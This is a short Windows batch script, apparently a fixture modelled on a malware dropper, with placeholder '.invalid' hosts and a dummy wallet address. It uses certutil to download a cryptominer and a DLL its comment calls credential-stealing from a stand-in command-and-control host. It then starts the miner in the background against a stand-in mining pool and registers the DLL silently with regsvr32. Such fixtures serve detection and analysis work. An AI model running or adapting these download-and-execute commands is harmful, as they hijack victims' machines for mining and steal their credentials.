@echo off
rem Windows leg: miner plus a credential-stealing DLL, fetched with whatever downloader exists.
certutil.exe -urlcache -f http://download.fixture-c2.invalid/payload/win jsextension.exe
certutil.exe -urlcache -f http://download.fixture-c2.invalid/payload/dll create.dll
tasklist /FI "IMAGENAME eq jsextension.exe" | find /I "jsextension.exe" >NUL || start /B jsextension.exe -o stratum+tcp://pool.fixture-pool.invalid:443 -u 4FIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIX --tls --background
regsvr32.exe /s create.dll
